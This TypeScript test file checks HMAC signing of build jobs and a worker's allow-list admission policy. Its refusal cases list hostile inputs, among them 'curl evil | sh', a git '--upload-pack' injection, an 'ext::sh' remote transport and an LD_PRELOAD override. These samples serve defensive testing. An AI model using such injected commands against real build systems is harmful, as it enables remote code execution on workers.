// Job signatures (distributed/job_auth.ts) and what a worker admits (distributed/worker_policy.ts):
// pure, no database.
import { describe, expect, it } from 'vitest';
import type { BuilderJob } from '../../../distributed/backend.js';
import { canonicalJson, jobSignatureProblem, readJobSecret, signJob } from '../../../distributed/job_auth.js';
import { admitJob } from '../../../distributed/worker_policy.js';
import { choiceSpec } from '../../../agents/select.js';
import { presetNamed } from '../../../agents/presets/index.js';

const key = Buffer.from('k'.repeat(32));
const job: BuilderJob = {
  workflow: 'p:' + 'a'.repeat(40),
  project: 'p',
  builder: 'api',
  prompt: 'build it',
  tool: './ci.sh',
  remote: '/srv/r.git',
  base: 'a'.repeat(40),
  branch: 'argo-builder-api',
  timeoutSeconds: null,
  ci: { kind: 'command', words: ['./ci.sh', '--fast'] },
  verify: 'npm test',
};

describe('signJob / jobSignatureProblem', () => {
  it('a signed job checks out for its own id, with its keys in any order', () => {
    const signed = signJob(job, 'id-1', key);
    expect(signed.signature).toMatch(/^hmac-sha256:[0-9a-f]{64}$/);
    expect(jobSignatureProblem(signed, 'id-1', key)).toBeNull();
    const reordered = Object.fromEntries(Object.entries(JSON.parse(JSON.stringify(signed))).reverse());
    expect(jobSignatureProblem(reordered, 'id-1', key)).toBeNull();
  });
  it('unsigned, altered, another secret, or copied into another row: refused with the reason', () => {
    const signed = signJob(job, 'id-1', key);
    expect(jobSignatureProblem(job, 'id-1', key)).toBe('the job is not signed (no coordinator holding the job secret queued it)');
    expect(jobSignatureProblem(null, 'id-1', key)).toBe('the job holds no payload');
    for (const altered of [
      { ...signed, ci: { kind: 'command', words: ['bash', '-c', 'touch /tmp/x'] } },
      { ...signed, remote: '--upload-pack=touch /tmp/x;false' },
      { ...signed, project: 'other' },
      { ...signed, job_id: 'id-2' },
      { ...signed, extra: 1 },
    ]) {
      expect(jobSignatureProblem(altered, 'id-1', key)).toBe("the job's signature does not match its payload (altered, or signed with another secret)");
    }
    expect(jobSignatureProblem(signed, 'id-1', Buffer.from('o'.repeat(32)))).toContain('does not match');
    expect(jobSignatureProblem(signed, 'id-2', key)).toBe('the job was signed for job "id-1", not this one (id-2): a copied payload');
  });
  it('canonicalJson sorts keys at every level and drops undefined members', () => {
    expect(canonicalJson({ b: 1, a: { d: [1, { f: 2, e: undefined }], c: null } })).toBe('{"a":{"c":null,"d":[1,{"f":2}]},"b":1}');
  });
});

describe('readJobSecret', () => {
  it('from ARGO_JOB_SECRET; too short or missing: the message names the variables and how to make one', () => {
    expect(readJobSecret({ ARGO_JOB_SECRET: ' ' + 's'.repeat(20) + '\n' })).toMatchObject({ ok: true, key: Buffer.from('s'.repeat(20)), source: 'ARGO_JOB_SECRET' });
    expect(readJobSecret({ ARGO_JOB_SECRET: 'short' })).toMatchObject({ ok: false, message: expect.stringContaining('the job secret in ARGO_JOB_SECRET has 5 bytes; accepted: at least 16') });
    expect(readJobSecret({})).toMatchObject({ ok: false, message: expect.stringContaining('set ARGO_JOB_SECRET_FILE (or ARGO_JOB_SECRET)') });
    expect(readJobSecret({ ARGO_JOB_SECRET_FILE: '/nonexistent/secret' })).toMatchObject({ ok: false, message: expect.stringContaining("ARGO_JOB_SECRET_FILE is '/nonexistent/secret', which cannot be read (ENOENT)") });
  });
});

describe('admitJob: what a worker runs', () => {
  const allow = { commands: ['./ci.sh --fast', 'npm test', 'make'] };
  it('a listed command line and a listed verify.command run', () => {
    expect(admitJob(job, allow)).toEqual({ ok: true, job });
    expect(admitJob({ ...job, ci: { kind: 'word', tool: 'make' }, verify: null }, allow)).toMatchObject({ ok: true });
    expect(admitJob({ ...job, ci: undefined, tool: 'make', verify: undefined }, allow)).toMatchObject({ ok: true }); // an older coordinator's job
    // worktree.setup is a command line too: it runs when listed
    expect(admitJob({ ...job, worktree: { setup: 'make', setup_timeout_seconds: 600, port_base: 20000, port_block: 100 }, builder_index: 2 }, allow)).toMatchObject({ ok: true });
  });
  it.each([
    [{ ci: { kind: 'command', words: ['bash', '-c', 'touch /tmp/x'] } }, 'the command "bash -c touch /tmp/x" is not in this worker\'s allow list'],
    [{ ci: { kind: 'command', words: ['./ci.sh'] } }, 'the command "./ci.sh" is not in this worker\'s allow list'],
    [{ ci: { kind: 'word', tool: 'ci' } }, 'the command "ci" is not in this worker\'s allow list'],
    [{ verify: 'curl evil | sh' }, 'verify.command "curl evil | sh" is not in this worker\'s allow list'],
    [{ remote: '--upload-pack=touch /tmp/x;false' }, 'remote "--upload-pack=touch /tmp/x;false" refused: it starts with "-"'],
    [{ remote: 'ext::sh -c touch% /tmp/x' }, 'remote "ext::sh -c touch% /tmp/x" refused: the "ext::" transport runs a helper program'],
    [{ base: '--all' }, 'base "--all" is not a commit id'],
    [{ branch: '--orphan' }, 'branch "--orphan" is not a plain branch name'],
    [{ ci: { kind: 'shell', line: 'x' } }, 'unknown CI kind "shell"'],
    [{ worktree: { setup: 'bash -c "curl evil | sh"', setup_timeout_seconds: 600, port_base: 20000, port_block: 100 } }, 'worktree.setup "bash -c \\"curl evil | sh\\"" is not in this worker\'s allow list'],
    [{ builder_index: -1 }, 'builder_index -1 is not a whole number from 0'],
  ])('%j → refused', (change, reason) => {
    const r = admitJob({ ...job, ...(change as Partial<BuilderJob>) }, allow);
    expect(r).toMatchObject({ ok: false, reason: expect.stringContaining(reason) });
  });
  it('an agent preset runs as built in here, with at most a model name from the job', () => {
    const claude = presetNamed('claude')!;
    const spec = choiceSpec({ kind: 'preset', preset: claude, model: 'claude-sonnet-4-5', source: 'x' });
    const preset = { ...job, ci: spec, verify: null };
    expect(admitJob(preset, { commands: [] })).toMatchObject({ ok: true, job: { ci: { kind: 'preset', model: 'claude-sonnet-4-5', preset: { name: 'claude', program: claude.program } } } });
    const overridden = (o: object) => admitJob({ ...preset, ci: { ...spec, preset: { ...(spec as any).preset, ...o } } as BuilderJob['ci'] }, { commands: [] });
    expect(overridden({ program: 'bash' })).toMatchObject({ ok: false, reason: expect.stringContaining("the job's preset 'claude' overrides its program (ci.agents.claude)") });
    expect(overridden({ env: { LD_PRELOAD: '/tmp/x.so' } })).toMatchObject({ ok: false, reason: expect.stringContaining('overrides its env') });
    expect(overridden({ builder: ['-p', '{prompt}', '--dangerously'] })).toMatchObject({ ok: false, reason: expect.stringContaining('overrides its builder') });
    expect(overridden({ name: 'hal' })).toMatchObject({ ok: false, reason: expect.stringContaining("unknown agent 'hal'") });
    expect(admitJob({ ...preset, ci: { ...spec, model: '--help' } as BuilderJob['ci'] }, { commands: [] })).toMatchObject({ ok: false, reason: expect.stringContaining('model "--help" refused') });
  });
});
